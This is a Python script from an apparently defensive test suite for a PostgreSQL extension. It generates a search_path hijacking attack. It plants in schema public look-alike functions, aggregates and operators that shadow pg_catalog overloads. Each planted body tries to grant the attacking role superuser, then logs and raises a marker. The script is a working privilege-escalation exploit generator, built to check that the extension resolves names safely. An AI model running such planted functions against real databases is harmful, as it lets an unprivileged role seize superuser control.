#!/usr/bin/env python3
"""The search_path attack on qxt_portability (test/attack/run.sh drives it).

  attack.py names               the function names and operator symbols the
                                extension's SQL can use: every identifier and
                                operator token of the string literals in
                                src/pg/*.cpp and of extension/*.sql (more
                                than needed is harmless; run.sh keeps those
                                that name something in pg_catalog)
  attack.py plants CATDIR       SQL that plants, in schema public, a
                                better-matching variant of every pg_catalog
                                overload of those names (catalog rows dumped
                                by run.sh into CATDIR)
  attack.py used LOG OIDS       the pg_catalog functions and operators that
                                the parse trees in LOG (debug_print_parse)
                                and the stored expressions in OIDS name, as
                                "kind name" lines (OIDS: "oid kind nsp name")

A planted variant is one a call site would pick over the pg_catalog
original when it resolves names along a path holding public:
  - an exact copy (wins when public comes before pg_catalog in the path);
  - for each argument position, the same signature with that argument's
    type replaced by a type that casts implicitly to it (pg_cast context
    'i'), or by a concrete type where the original is polymorphic or "any":
    an exact match beats one needing a cast or a polymorphic match;
  - for VARIADIC functions, concrete trailing arguments.
Each planted function tries to make its owner superuser, writes
"QXT-PLANTED-RAN <signature>" to the server log and raises an error naming
itself.  Only standard library; no database access of its own.
"""
import csv
import glob
import os
import re
import sys

ROOT = os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))

# Types the extension's SQL handles (columns, parameters, literals, catalog
# columns it reads) and the usual suspects around them.  Variants use these
# as the better-matching argument types.
RELEVANT_TYPES = [
    "text", "character varying", "character", "name", '"char"', "boolean",
    "smallint", "integer", "bigint", "numeric", "real", "double precision",
    "oid", "regclass", "regrole", "regnamespace", "regproc", "regtype",
    "timestamp with time zone", "timestamp without time zone", "date", "interval",
    "aclitem", "text[]", "smallint[]", "integer[]", "bigint[]", "oid[]", "name[]",
    "aclitem[]", "bytea", "jsonb", "json",
]

POLY_ELEMENT = {"anyelement", "anycompatible", "anynonarray", "anycompatiblenonarray"}
POLY_ARRAY = {"anyarray", "anycompatiblearray"}
UNSUPPORTED = {"internal", "cstring", "anyenum", "anyrange", "anymultirange",
               "anycompatiblerange", "anycompatiblemultirange", "language_handler",
               "fdw_handler", "index_am_handler", "tsm_handler", "table_am_handler",
               "trigger", "event_trigger", "opaque", "void", "unknown"}


def c_string_literals(text):
    """The contents of the double-quoted string literals of C++ source."""
    out = []
    for line in text.splitlines():
        if line.lstrip().startswith("#include"):
            continue
        out.extend(m.group(1) for m in re.finditer(r'"((?:[^"\\\n]|\\.)*)"', line))
    return out


def names():
    chunks = []
    for path in sorted(glob.glob(os.path.join(ROOT, "src", "pg", "*.cpp"))):
        with open(path, encoding="utf-8") as f:
            chunks.extend(c_string_literals(f.read()))
    for path in sorted(glob.glob(os.path.join(ROOT, "extension", "*.sql"))):
        with open(path, encoding="utf-8") as f:
            chunks.append(f.read())
    idents, ops = set(), set()
    for c in chunks:
        for m in re.finditer(r"[A-Za-z_][A-Za-z0-9_$]*", c):
            idents.add(m.group(0).lower())
        for m in re.finditer(r"[-+*/<>=~!@#%^&|`?]+", c):
            tok = m.group(0)
            # "--" starts a comment; "/*" and "*/" are comment brackets
            tok = tok.split("--")[0]
            for t in re.split(r"/\*|\*/", tok):
                if t:
                    ops.add(t)
                    # a run like ">=-" may be two operators as written
                    for i in range(1, len(t)):
                        ops.add(t[:i])
                        ops.add(t[i:])
    for i in sorted(idents):
        print("f\t%s" % i)
    for o in sorted(ops):
        print("o\t%s" % o)


def read_tsv(path):
    with open(path, encoding="utf-8") as f:
        return [row for row in csv.reader(f, delimiter="\t", quoting=csv.QUOTE_NONE)]


def quote_ident(s):
    return '"' + s.replace('"', '""') + '"'


class Catalog:
    def __init__(self, d):
        # types: oid, format_type, typtype, typelem, typarray
        self.tname, self.tt, self.elem, self.arr, self.byname = {}, {}, {}, {}, {}
        for oid, fmt, typtype, elem, arr in read_tsv(os.path.join(d, "types.tsv")):
            self.tname[oid] = fmt
            self.tt[oid] = typtype
            self.elem[oid] = elem
            self.arr[oid] = arr
            self.byname[fmt] = oid
        self.implicit = set()
        for src, dst in read_tsv(os.path.join(d, "casts.tsv")):
            self.implicit.add((src, dst))
        self.relevant = [self.byname[t] for t in RELEVANT_TYPES if t in self.byname]
        # procs: oid, name, kind, argtypes (space separated), variadic, retset, rettype, result
        self.procs = read_tsv(os.path.join(d, "procs.tsv"))
        # ops: oid, name, left, right, result
        self.ops = read_tsv(os.path.join(d, "ops.tsv"))

    def name(self, oid):
        return self.tname[oid]

    def is_array(self, oid):
        return self.elem.get(oid, "0") != "0" and self.name(oid).endswith("[]")

    def better(self, declared):
        """Concrete types that match `declared` better than it matches them."""
        dn = self.name(declared)
        out = []
        for t in self.relevant:
            if t == declared:
                continue
            if dn == '"any"':
                out.append(t)
            elif dn in POLY_ELEMENT:
                if dn.endswith("nonarray") and self.is_array(t):
                    continue
                out.append(t)
            elif dn in POLY_ARRAY:
                if self.is_array(t):
                    out.append(t)
            elif (t, declared) in self.implicit:
                out.append(t)
        return out


def derive_return(cat, rettype, declared, variant):
    """A concrete return type for a planted variant of a polymorphic
    function (or None when the original's is fine as it is)."""
    rn = cat.name(rettype)
    if rn not in POLY_ELEMENT and rn not in POLY_ARRAY:
        return None
    for d, v in zip(declared, variant):
        dn, vn = cat.name(d), cat.name(v)
        if dn in POLY_ELEMENT and vn not in POLY_ELEMENT | POLY_ARRAY:
            if rn in POLY_ELEMENT:
                return v
            a = cat.arr.get(v, "0")
            return a if a != "0" else None
        if dn in POLY_ARRAY and cat.is_array(v):
            return v if rn in POLY_ARRAY else cat.elem[v]
    still_poly = any(cat.name(v) in POLY_ELEMENT | POLY_ARRAY for v in variant)
    return None if still_poly else cat.byname.get("text")


def plants(d):
    cat = Catalog(d)
    seen = set()
    n = 0
    out = ["SET client_min_messages = warning;",
           "SET SESSION AUTHORIZATION qxt_attacker;",
           "SET check_function_bodies = off;"]

    def body(sig):
        s = sig.replace("'", "''")
        return ("$qxt_plant$\nBEGIN\n"
                "  BEGIN EXECUTE 'ALTER ROLE qxt_attacker SUPERUSER'; "
                "EXCEPTION WHEN OTHERS THEN NULL; END;\n"
                "  RAISE LOG 'QXT-PLANTED-RAN %%', '%s';\n"
                "  RAISE EXCEPTION 'QXT-PLANTED-RAN %%', '%s';\n"
                "END\n$qxt_plant$" % (s, s))

    def args_sql(variant):
        return ", ".join("a%d %s" % (i + 1, cat.name(t)) for i, t in enumerate(variant))

    for oid, name, kind, argtypes, variadic, retset, rettype, result in cat.procs:
        declared = argtypes.split() if argtypes else []
        if any(cat.name(t) in UNSUPPORTED for t in declared):
            continue
        variants = []
        if variadic != "0" and declared:
            fixed = declared[:-1]
            for t in cat.better(variadic) if cat.name(declared[-1]) != '"any"' else cat.relevant:
                variants.append(fixed + [t])
                variants.append(fixed + [t, t])
        variants.append(list(declared))
        for i, dtype in enumerate(declared):
            if variadic != "0" and i == len(declared) - 1:
                continue
            for t in cat.better(dtype):
                v = list(declared)
                v[i] = t
                variants.append(v)
        for v in variants:
            if any(cat.name(t) in ('"any"',) for t in v):
                continue  # PL/pgSQL cannot take "any"
            key = ("f", name, tuple(v))
            if key in seen:
                continue
            seen.add(key)
            sig = "%s(%s)" % (name, ", ".join(cat.name(t) for t in v))
            n += 1
            ret = derive_return(cat, rettype, declared, v)
            if kind == "a":
                stype = cat.name(ret or rettype)
                if stype in POLY_ELEMENT | POLY_ARRAY or stype in UNSUPPORTED:
                    stype = "text"
                sf = "qxt_plant_sf_%d" % n
                out.append("CREATE FUNCTION public.%s(s %s%s) RETURNS %s LANGUAGE plpgsql AS %s;"
                           % (sf, stype, "".join(", %s" % cat.name(t) for t in v), stype,
                              body(sig)))
                out.append("CREATE AGGREGATE public.%s(%s) (SFUNC = public.%s, STYPE = %s);"
                           % (quote_ident(name), ", ".join(cat.name(t) for t in v) or "*", sf,
                              stype))
                continue
            if kind == "w":
                continue  # window functions can only be written in C
            if ret is not None:
                res = ("SETOF " if retset == "t" else "") + cat.name(ret)
            else:
                res = result
                if any(p in res for p in ("anyelement", "anyarray", "anycompatible", "anynonarray")) \
                        and not any(cat.name(t) in POLY_ELEMENT | POLY_ARRAY for t in v):
                    continue
            out.append("CREATE FUNCTION public.%s(%s) RETURNS %s LANGUAGE plpgsql AS %s;"
                       % (quote_ident(name), args_sql(v), res, body(sig)))

    for oid, name, left, right, result in cat.ops:
        sides = [left, right]
        variants = [list(sides)]
        for i, dtype in enumerate(sides):
            if dtype == "0":
                continue
            for t in cat.better(dtype):
                v = list(sides)
                v[i] = t
                variants.append(v)
        for v in variants:
            if any(x != "0" and cat.name(x) in UNSUPPORTED | {'"any"'} for x in v):
                continue
            key = ("o", name, tuple(v))
            if key in seen:
                continue
            seen.add(key)
            n += 1
            fn = "qxt_plant_op_%d" % n
            ins = [x for x in v if x != "0"]
            sig = "operator %s(%s)" % (name, ", ".join(cat.name(x) if x != "0" else "NONE" for x in v))
            ret = derive_return(cat, result, [x for x in sides if x != "0"], ins)
            res = cat.name(ret) if ret is not None else cat.name(result)
            if res in POLY_ELEMENT | POLY_ARRAY and not any(cat.name(x) in POLY_ELEMENT | POLY_ARRAY for x in ins):
                res = "text"
            out.append("CREATE FUNCTION public.%s(%s) RETURNS %s LANGUAGE plpgsql AS %s;"
                       % (fn, args_sql(ins), res, body(sig)))
            parts = []
            if v[0] != "0":
                parts.append("LEFTARG = %s" % cat.name(v[0]))
            if v[1] != "0":
                parts.append("RIGHTARG = %s" % cat.name(v[1]))
            parts.append("FUNCTION = public.%s" % fn)
            out.append("CREATE OPERATOR public.%s (%s);" % (name, ", ".join(parts)))
    out.append("RESET SESSION AUTHORIZATION;")
    print("\n".join(out))
    print("-- %d planted signatures" % n, file=sys.stderr)


def used(logfile, oidfile):
    with open(logfile, encoding="utf-8", errors="replace") as f:
        text = f.read()
    oids = {}
    for row in read_tsv(oidfile):
        oid, kind, nsp, name = row
        oids[(kind, oid)] = (nsp, name)
    found = set()
    # FUNCEXPR: only calls written as function calls (funcformat 0); casts
    # (1, 2) come from pg_cast and SQL-syntax functions (3) are named
    # pg_catalog.x by the parser itself.
    for m in re.finditer(r"\{FUNCEXPR\s+:funcid (\d+)\s.*?:funcformat (\d)", text, re.S):
        if m.group(2) == "0":
            found.add(("f", m.group(1)))
    for m in re.finditer(r":(?:aggfnoid|winfnoid) (\d+)", text):
        found.add(("f", m.group(1)))
    for m in re.finditer(r"\{(?:OPEXPR|SCALARARRAYOPEXPR|DISTINCTEXPR|NULLIFEXPR)\s+:opno (\d+)", text):
        found.add(("o", m.group(1)))
    for kind, oid in sorted(found):
        nsp, name = oids.get((kind, oid), ("?", "oid %s" % oid))
        print("%s\t%s\t%s" % (kind, nsp, name))


if __name__ == "__main__":
    if len(sys.argv) >= 2 and sys.argv[1] == "names":
        names()
    elif len(sys.argv) == 3 and sys.argv[1] == "plants":
        plants(sys.argv[2])
    elif len(sys.argv) == 4 and sys.argv[1] == "used":
        used(sys.argv[2], sys.argv[3])
    else:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
